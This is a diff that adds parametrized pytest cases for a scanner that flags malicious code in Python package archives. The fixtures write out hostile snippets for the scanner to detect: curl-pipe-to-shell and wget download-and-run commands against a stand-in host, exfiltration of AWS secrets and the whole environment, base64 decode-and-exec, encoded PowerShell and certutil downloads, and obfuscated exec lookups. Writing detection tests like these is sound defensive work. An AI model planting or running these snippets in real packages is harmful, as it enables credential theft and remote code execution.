@@ -2,6 +2,8 @@
 
 from __future__ import annotations
 
+from collections import Counter
+
 import pytest
 
 from analysis.artifact import ArchiveContents, ArchiveKind, Member
@@ -167,6 +169,145 @@ CASES = [
                                  "backend-path = ['_build']\n",
       "demo-1.0/_build/backend.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
      "code.decode-exec", C, "an in-tree build backend runs at install time"),
+    # ---- process commands built at run time (commands.command_text)
+    (setup_py("import os\nu = input()\nos.system(f'curl {u} | sh')\n"), "code.download-exec", C,
+     "an f-string command keeps its literal parts: curl {} | sh"),
+    (setup_py("import os\nu = input()\nos.system('wget ' + u + ' -O a && ./a')\n"),
+     "code.download-exec", C, "a command concatenated around an unknown URL"),
+    (setup_py("import os\nu = input()\nos.system('curl %s | bash' % u)\n"), "code.download-exec", C,
+     "a %-formatted command: the template tells"),
+    (setup_py("import os\nu = input()\nos.system('curl {} | sh'.format(u))\n"), "code.download-exec",
+     C, "a str.format command: the template tells"),
+    (setup_py("import os\nu = input()\nos.system(' '.join(['curl', u, '|', 'sh']))\n"),
+     "code.download-exec", C, "a command joined from a list"),
+    (setup_py("import subprocess\ncmd = input()\nsubprocess.call(cmd, shell=True)\n"),
+     "code.process-spawn", L, "a command nothing literal tells about: dynamic, low at install"),
+    (setup_py("import subprocess\nsubprocess.run(args=['whoami'])\n"), "code.process-spawn", L,
+     "no positional command: dynamic"),
+    (setup_py("import subprocess\nsubprocess.call('powershell -nop -enc cAByAGkAbgB0ACgAMQApAA==')\n"),
+     "code.decode-exec", C, "an encoded PowerShell command is decode->exec"),
+    (setup_py("import subprocess\nsubprocess.call('sh -c \"make all\"', shell=True)\n"),
+     "code.process-spawn", L, "a plain shell wrapper at install: low"),
+    (setup_py("__import__('os').system('curl -s https://x.example/i.sh | sh')\n"),
+     "code.download-exec", C, "__import__('os') is the module os"),
+    (setup_py("import os\ngetattr(os, 'sys' + 'tem')('curl -s https://x.example/i.sh | sh')\n"),
+     "code.download-exec", C, "getattr(os, built-up name) is os.system"),
+    (setup_py("import builtins\nf = getattr(builtins, 'cexe'[::-1])\n"), "code.obfuscation", M,
+     "a reversed literal folds to 'exec'"),
+    # ---- facts: environment, with-blocks, codecs, builtins tricks
+    (setup_py("import urllib.request\nwith urllib.request.urlopen('https://x.example/p') as r:\n"
+              "    exec(r.read())\n"), "code.download-exec", C, "a with-as variable carries the download"),
+    (setup_py("import os, requests\n"
+              "requests.post('https://x.example/c', data=os.environ['AWS_SECRET_ACCESS_KEY'])\n"),
+     "code.exfiltration", C, "one environment variable read and sent at install"),
+    (setup_py("import os, requests\nfor k in os.environ:\n    requests.post('https://x.example', data=k)\n"),
+     "code.exfiltration", C, "a loop over the whole environment feeding a send"),
+    (setup_py("import os, requests\nnames = [k for k in os.environ]\n"
+              "requests.post('https://x.example', json=names)\n"),
+     "code.exfiltration", C, "a comprehension over the whole environment feeding a send"),
+    (setup_py("import os, requests\nrequests.post('https://x.example', json=os.environ.copy())\n"),
+     "code.exfiltration", C, "os.environ.copy() takes the whole environment"),
+    (setup_py("import os, requests\nif 'CI' in os.environ:\n    os.environ.setdefault('PIP_QUIET', '1')\n"
+              "requests.get('https://x.example/ok')\n"),
+     "code.exfiltration", None, "benign: a membership test and setdefault read no values"),
+    (setup_py(f"exec(b'{PAYLOAD}'.decode('base64'))\n"), "code.decode-exec", C,
+     "Python 2 str.decode('base64') into exec"),
+    (setup_py("exec(open('demo/_version.py', 'rb').read().decode('utf-8'))\n"
+              "exec(open('demo/_meta.py', 'rb').read().decode())\n"),
+     "code.decode-exec", None, "benign: utf-8 and default decodes are not codecs that hide code"),
+    (setup_py("__builtins__.__dict__['exec']('print(1)')\n"), "code.obfuscation", M,
+     "exec taken from the builtins __dict__"),
+    (setup_py("b = globals()['__builtins__']\n"), "code.obfuscation", L,
+     "builtins reached through globals()"),
+    (setup_py("cfg = Config()\nname = cfg.__dict__['name']\n"), "code.obfuscation", None,
+     "benign: an ordinary object's __dict__"),
+    # ---- threats: blobs, download then run, runtime thresholds
+    (setup_py("DATA = '" + "7072696e7428312920" * 120 + "'\n"), "code.obfuscation", L,
+     "a 2160-character hex string"),
+    (setup_py("LICENSE = '" + "hello world " * 200 + "'\n"), "code.obfuscation", None,
+     "benign: a long low-entropy text"),
+    (setup_py("import subprocess, urllib.request\n"
+              "urllib.request.urlretrieve('https://x.example/tool', 'tool')\nsubprocess.call(['./tool'])\n"),
+     "code.download-exec", C, "downloads a program and runs it without chmod"),
+    (setup_py("import subprocess, urllib.request\n"
+              "urllib.request.urlretrieve('https://example.org/src.tar.gz', 'src.tar.gz')\n"
+              "subprocess.check_call(['make'])\n"),
+     "code.download-exec", None, "benign: downloads sources and runs make"),
+    ({"demo/net.py": "import base64\nU = 'https://x.ngrok.io/a'\nK = '~/.ssh/id_rsa'\n"
+                     "def load(b):\n    exec(base64.b64decode(b))\n"},
+     "code.decode-exec", L, "runtime module parsed because exec sits near b64decode"),
+    ({"demo/net.py": "import base64\nU = 'https://x.ngrok.io/a'\nK = '~/.ssh/id_rsa'\n"
+                     "def load(b):\n    exec(base64.b64decode(b))\n"},
+     "code.shady-url", None, "a lone tunnel URL in runtime code is info only"),
+    ({"demo/net.py": "import base64\nU = 'https://x.ngrok.io/a'\nK = '~/.ssh/id_rsa'\n"
+                     "def load(b):\n    exec(base64.b64decode(b))\n"},
+     "code.credential-access", None, "a key path in runtime code without a send is info only"),
+    # ---- layout: scripts, src packages, .pth lines, pyproject and entry point edge cases
+    ({"demo-1.0.data/scripts/ssh": "#!python\nprint(1)\n"}, "code.command-shadow", M,
+     "a wheel script named ssh", WHEEL),
+    ({"demo-1.0/src/demo/__init__.py": f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n"},
+     "code.decode-exec", C, "a src-layout package __init__ runs on import", SDIST),
+    ({"demo.pth": "/opt/demo/lib\nimport demo_boot\n",
+      "demo_boot.py": "import os\nos.system('curl -s https://x.example/i.sh | sh')\n"},
+     "code.download-exec", C, "a module a .pth line imports runs at every start", WHEEL),
+    ({"demo-1.0/pyproject.toml": "[build-system\nrequires = ['x @ https://x.example/x.zip']\n"},
+     "code.build-backend", None, "a pyproject.toml that is not TOML is skipped", SDIST),
+    ({"demo-1.0/pyproject.toml": "build-system = 'setuptools'\n"}, "code.build-backend", None,
+     "a build-system that is not a table is skipped", SDIST),
+    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = ['setuptools>=61', 42]\n"
+                                 "build-backend = 'setuptools.build_meta'\n"},
+     "code.build-backend", None, "benign: PyPI requirements and a known backend", SDIST),
+    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = ['setuptools']\n"
+                                 "build-backend = 'mybuild.api'\n"},
+     "code.build-backend", N, "an uncommon backend is context", SDIST),
+    ({"demo-1.0.dist-info/entry_points.txt": "pip = demo.cli:main\n"}, "code.command-shadow", None,
+     "an entry_points.txt without a section header is unreadable: skipped", WHEEL),
+    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\nssh = demo.cli:main\n",
+      "demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"},
+     "code.download-exec", M, "the module behind a shadowing command runs when it is typed", WHEEL),
+    ({"demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"},
+     "code.download-exec", L, "the same module without the shadowing command: runtime", WHEEL),
+    ({"demo/__init__.py": "try:\n    import ujson\nexcept ImportError:\n    from . import _fallback\n",
+      "demo/_fallback.py": "import os\nos.system('curl -s https://x.example/i.sh | sh')\n"},
+     "code.download-exec", H, "a module imported in an except block runs on import", WHEEL),
+    # ---- setup(...) keywords
+    (setup_py("from setuptools import setup\nfrom setuptools.command.develop import develop\n"
+              "class D(develop):\n    pass\nCFG.extra = {}\ncmds = {'develop': D}\nsetup(cmdclass=cmds)\n"),
+     "code.cmdclass-override", N, "cmdclass passed through a module-level name"),
+    (setup_py("from setuptools import setup\nsetup(cmdclass={'build_sphinx': object})\n"),
+     "code.cmdclass-override", None, "a command that does not run at install is not a hook"),
+    (setup_py("from setuptools import setup\nsetup(entry_points={**BASE, 'pytest11': ['ssh = demo.plug'],"
+              " 'console_scripts': ['noequals']})\n"),
+     "code.command-shadow", None, "plugin groups and malformed entries are not commands"),
+    # ---- files ast cannot parse: the line-regex pass, one level lower
+    (setup_py(f"print 'building'\nimport base64\nexec base64.b64decode(\"{PAYLOAD}\")\n"),
+     "code.decode-exec", H, "Python 2 setup.py: decode->exec read by regex"),
+    (setup_py("print 'x'\nimport os\nos.system(\"curl -s https://x.example/i.sh | sh\")\n"),
+     "code.download-exec", H, "Python 2 setup.py: curl | sh read by regex"),
+    (setup_py("print 'x'\nimport os\nos.system(\"certutil -urlcache -f http://x.example/a a.exe\")\n"),
+     "code.process-spawn", M, "Python 2 setup.py: a LOLBin read by regex"),
+    (setup_py("print 'x'\nimport os\nos.system(\"make\")\n"), "code.process-spawn", None,
+     "Python 2 setup.py: the regex pass only rates commands that fetch or hide code"),
+    (setup_py("print 'x'\nURL = \"https://x.ngrok.io/a\"\n"), "code.shady-url", None,
+     "Python 2 setup.py: a lone shady URL read by regex is info, dropped from the report"),
+    (setup_py("print 'x'\nimport os\nos.system(\"echo https://example.org/a\")\n"), "code.shady-url", None,
+     "Python 2 setup.py: an ordinary URL is not shady"),
+    (setup_py("print 1\n# exec(base64.b64decode(blob))\n"), "code.decode-exec", None,
+     "Python 2 setup.py: a commented-out line without quotes is ignored"),
+    (setup_py(f"import base64\nexec(base64.b64decode('{PAYLOAD}'))\n" + "# generated\n" * 400_000),
+     "code.decode-exec", H, "fixed: a setup.py padded past the parse limit is still read by regex"),
+    (setup_py("x = 1\x00\n"), "code.decode-exec", None, "a null byte: not Python, nothing to report"),
+    # ---- text evidence
+    (setup_py("ARMOR = 'armor plating'\n"), "code.obfuscation", None,
+     "benign: the word armor without the PyArmor runtime"),
+    (setup_py("x = 1" + " " * 200 + "# see the import notes\n"), "code.obfuscation", None,
+     "benign: a comment far right is not hidden code"),
+    ({"demo/__init__.py": "x = '''\u202e never closed\n"}, "code.invisible-unicode", M,
+     "untokenizable source: every character counts as code"),
+    ({"demo/__init__.py": "x = 1\u200b\n" + "# pad\n" * 50_000}, "code.invisible-unicode", M,
+     "past the tokenize limit: a zero-width space before any quote or # is code"),
+    ({"demo/__init__.py": "s = 'a\u202eb'\n" + "# pad\n" * 50_000}, "code.invisible-unicode", L,
+     "past the tokenize limit: a bidi control after a quote is in a string"),
 ]  # fmt: skip
 
 
@@ -193,3 +334,53 @@ def test_table(
     filename: str,
 ) -> None:
     assert worst(scan(files, filename), check_id) == severity, reason
+
+
+EVIDENCE = [
+    (setup_py("import subprocess\ncmd = input()\nsubprocess.call(cmd, shell=True)\n"),
+     "code.process-spawn", "kind", {"dynamic"}, "a command built at run time is rated dynamic"),
+    (setup_py("import subprocess\nsubprocess.call('sh -c \"make all\"', shell=True)\n"),
+     "code.process-spawn", "kind", {"shell"}, "sh -c is a shell wrapper"),
+    (setup_py("import subprocess\nsubprocess.call(input().strip())\n"), "code.process-spawn", "kind",
+     {"dynamic"}, "a method call other than format or join tells nothing"),
+    (setup_py("import os\nu = input()\nos.system('curl {} | sh'.format(u))\n"),
+     "code.download-exec", "command", {"curl {} | sh"}, "the unknown part stays a placeholder"),
+    (setup_py("from setuptools import setup\nfrom setuptools.command.develop import develop\n"
+              "class D(develop):\n    pass\nsetup(cmdclass={'develop': D, 'build_sphinx': D})\n"),
+     "code.cmdclass-override", "command", {"develop"}, "only install-time commands are hooks"),
+    (setup_py("from setuptools import setup\nsetup(entry_points={**BASE, 'pytest11': ['ssh = demo.plug'],"
+              " 'console_scripts': ['noequals', 'ls = demo:main']})\n"),
+     "code.command-shadow", "command", {"ls"}, "only console_scripts entries with '=' count"),
+    ({"demo-1.0.data/scripts/ssh": "#!python\n"}, "code.command-shadow", "target",
+     {"demo-1.0.data/scripts/ssh"}, "a wheel script's target is its own path"),
+    ({"demo-1.0/pyproject.toml": "[build-system]\nrequires = []\nbuild-backend = 'mybuild.api'\n"},
+     "code.build-backend", "backend", {"mybuild.api"}, "the uncommon backend is named"),
+    (setup_py("DATA = '" + "7072696e7428312920" * 120 + "'\n"), "code.obfuscation", "technique",
+     {"blob"}, "a hex blob is a blob"),
+    (setup_py(f"print 'x'\nimport base64\nexec base64.b64decode(\"{PAYLOAD}\")\n"),
+     "code.decode-exec", "parsed", {"regex"}, "regex evidence says so"),
+    ({"demo-1.0.dist-info/entry_points.txt": "[console_scripts]\nssh = demo.cli:main\n",
+      "demo/cli.py": "import os\ndef main():\n    os.system('curl -s https://x.example/i.sh | sh')\n"},
+     "code.download-exec", "reach", {"command"}, "a shadowing command's module has command reach"),
+]  # fmt: skip
+
+
+@pytest.mark.parametrize(
+    ("files", "check_id", "key", "values", "reason"), EVIDENCE, ids=[e[4] for e in EVIDENCE]
+)
+def test_evidence(
+    files: dict[str, str | bytes], check_id: str, key: str, values: set[str], reason: str
+) -> None:
+    filename = SDIST if any(p.startswith("demo-1.0/") for p in files) else WHEEL
+    found = {f.evidence[key] for f in scan(files, filename) if f.check_id == check_id}
+    assert found == values, reason
+
+
+def test_caps_per_member_and_per_archive() -> None:
+    """Six tunnel URLs in each of five imported modules: five kept per member, twenty in all,
+    so the last module (in path order) gets none."""
+    module = "import socket\n" + "".join(f"U{i} = 'https://h{i}.ngrok.io/x'\n" for i in range(6))
+    files: dict[str, str | bytes] = {f"mod{m}.py": module for m in range(5)}
+    found = [f for f in scan(files, WHEEL) if f.check_id == "code.shady-url"]
+    per_path = Counter(f.evidence["path"] for f in found)
+    assert per_path == {"mod0.py": 5, "mod1.py": 5, "mod2.py": 5, "mod3.py": 5}
